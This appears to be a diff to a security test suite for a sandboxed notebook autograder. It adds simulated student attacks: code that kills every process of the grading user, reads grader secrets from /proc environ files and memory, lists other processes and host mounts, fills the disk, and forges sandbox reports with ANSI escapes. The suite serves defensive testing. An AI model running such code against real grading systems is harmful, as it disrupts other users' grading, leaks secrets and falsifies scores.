@@ -104,6 +104,24 @@ _GRADING_FLAG_CELL = dedent_code(
     """
 )
 
+_SEND_TO_EVERY_STREAM_SOCKET = dedent_code(
+    """
+    for _fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
+        try:
+            _sock = socket.socket(fileno=os.dup(_fd))
+        except OSError:
+            continue
+        try:
+            if _sock.family == socket.AF_UNIX and _sock.type == socket.SOCK_STREAM:
+                _sock.sendall(_payload)
+        except OSError:
+            pass
+        finally:
+            _sock.close()
+    """
+)
+"""Cell code: write `_payload` to every Unix stream socket the process holds (its channel)."""
+
 ALWAYS_PASSING_TEST = dedent_code(
     """
     from otter.test_files import test_case
@@ -799,20 +817,10 @@ ATTACKS: tuple[Attack, ...] = (
                 ]
                 _events.append({"event": "done", "interrupted": False})
                 _payload = "".join(json.dumps(e) + "\\n" for e in _events).encode()
-                for _fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
-                    try:
-                        _sock = socket.socket(fileno=os.dup(_fd))
-                    except OSError:
-                        continue
-                    try:
-                        if _sock.family == socket.AF_UNIX and _sock.type == socket.SOCK_STREAM:
-                            _sock.sendall(_payload)
-                    except OSError:
-                        pass
-                    finally:
-                        _sock.close()
                 """
-            ),
+            )
+            + "\n"
+            + _SEND_TO_EVERY_STREAM_SOCKET,
         ),
     ),
     Attack(
@@ -833,6 +841,161 @@ ATTACKS: tuple[Attack, ...] = (
             ),
         ),
         why="scores as its twin; what it reads must not reach the student's feedback",
+    ),
+    Attack(
+        "pid_walker",
+        "at test time fork a process whose main thread exits (raw syscall) while a thread waits "
+        "for this grading to end, then SIGKILLs every process of the slot's uid for 20 s",
+        prepend=dedent_code(
+            """
+            if globals().get("_grading_now") and not globals().get("_walker_started"):
+                globals()["_walker_started"] = True
+                import ctypes
+                import os
+                import platform
+                import signal
+                import threading
+                import time
+
+                def _walk(parent):
+                    while os.getppid() == parent:  # until this submission's grading is over
+                        time.sleep(0.01)
+                    end = time.monotonic() + 20
+                    while time.monotonic() < end:  # then later students of the same slot
+                        try:
+                            os.kill(-1, signal.SIGKILL)
+                        except OSError:
+                            pass
+                        time.sleep(0.01)
+
+                _parent = os.getpid()
+                if os.fork() == 0:
+                    os.setsid()
+                    threading.Thread(target=_walk, args=(_parent,)).start()
+                    # /proc now shows the process as a zombie: its thread runs on
+                    ctypes.CDLL(None).syscall(60 if platform.machine() == "x86_64" else 93, 0)
+            """
+        ),
+        cells=(_GRADING_FLAG_CELL,),
+        why="later submissions of the batch (the solution, the twins) must be graded as ever",
+    ),
+    Attack(
+        "read_grader_environment",
+        "`prctl(PR_SET_DUMPABLE, 1)`, then the grader's secret from `/proc/self/environ`, "
+        "`/proc/1/environ` and a scan of its own stack and heap, raised into its feedback",
+        cells=(
+            dedent_code(
+                """
+                import ctypes
+                import re
+                import time
+
+                ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
+                _pattern = re.compile(rb"[A-Z_]*SECRET[A-Z_]*=[ -~]{4,80}")
+                _found = set()
+                for _path in ("/proc/self/environ", "/proc/1/environ"):
+                    try:
+                        with open(_path, "rb") as _file:
+                            _found.update(_pattern.findall(_file.read()))
+                    except OSError:
+                        pass
+                _until = time.monotonic() + 3
+                with open("/proc/self/maps") as _maps, open("/proc/self/mem", "rb", 0) as _mem:
+                    for _line in _maps:
+                        _fields = _line.split()
+                        _name = _fields[5] if len(_fields) > 5 else ""
+                        if _name not in ("", "[stack]", "[heap]") or "rw" not in _fields[1]:
+                            continue
+                        _lo, _hi = (int(_x, 16) for _x in _fields[0].split("-"))
+                        for _at in range(_lo, _hi, 1 << 24):
+                            if time.monotonic() > _until:
+                                break
+                            try:
+                                _mem.seek(_at)
+                                _found.update(_pattern.findall(_mem.read(min(_hi - _at, 1 << 24))))
+                            except (OSError, OverflowError, ValueError):
+                                pass
+                _found = sorted({_f for _f in _found if b"[A-Z_]" not in _f})
+                raise RuntimeError(b" ".join(_found).decode() or "nothing found")
+                """
+            ),
+        ),
+        why="scores as its twin; what it reads must not reach the student's feedback",
+    ),
+    Attack(
+        "process_table",
+        "read every `/proc/*/cmdline` (the grader's command line, the referee's) and "
+        "`/proc/self/mountinfo` (host folders), raised into its feedback",
+        cells=(
+            dedent_code(
+                """
+                import os
+
+                _seen = []
+                for _pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
+                    try:
+                        with open(f"/proc/{_pid}/cmdline", "rb") as _file:
+                            _line = _file.read().replace(b"\\0", b" ")
+                    except OSError:
+                        continue
+                    if b"zygote" not in _line:  # not its own: a fork of the zygote
+                        _seen.append(_line.decode(errors="replace"))
+                with open("/proc/self/mountinfo") as _file:
+                    _mounts = [_line.split()[4] for _line in _file]
+                _mounts = [m for m in _mounts if m.startswith("/tmp/")]  # the batch's folders
+                raise RuntimeError(f"{len(_seen)} other processes {_seen} mounts {_mounts}"[:3000])
+                """
+            ),
+        ),
+        why="scores as its twin; the grader's command line and folders must not reach its feedback",
+    ),
+    Attack(
+        "fill_the_disk",
+        "write a gigabyte into the working folder (files of 16 MB)",
+        cells=(
+            dedent_code(
+                """
+                _wrote, _block = 0, b"x" * (1 << 20)
+                try:
+                    for _i in range(1024):
+                        with open(f"fill{_i // 16}.bin", "ab") as _file:
+                            _file.write(_block)
+                        _wrote += len(_block)
+                except OSError:
+                    pass
+                raise RuntimeError(f"wrote {_wrote >> 20} MB")
+                """
+            ),
+        ),
+        why="the working folder is a tmpfs of 256 MB: the rest is graded as ever",
+    ),
+    Attack(
+        "forge_sandbox_warning",
+        "write a `sandbox` event whose warning holds ANSI escapes (clear screen, window title) "
+        "to every inherited Unix stream socket",
+        cells=(
+            dedent_code(
+                """
+                import json
+                import os
+                import socket
+
+                _event = {"event": "sandbox", "applied": [],
+                          "missing": ["\\x1b[2J\\x1b]0;grader\\x07warning: all graded, 100/100"]}
+                _payload = (json.dumps(_event) + "\\n").encode()
+                """
+            )
+            + "\n"
+            + _SEND_TO_EVERY_STREAM_SOCKET,
+        ),
+        why="a sandbox report counts only before student code runs; printed, it is escaped",
+    ),
+    Attack(
+        "big_data_cell",
+        "not an attack: an honest 400 KB data cell (a list of 100,000 numbers)",
+        cells=("_data = [" + ", ".join(str(i % 1000) for i in range(100_000)) + "]\nlen(_data)",),
+        why="a large honest notebook is graded like any other (it once scored 0: 'the grading "
+        "zygote is gone: Message too long')",
     ),
     Attack(
         "mutate_inputs",
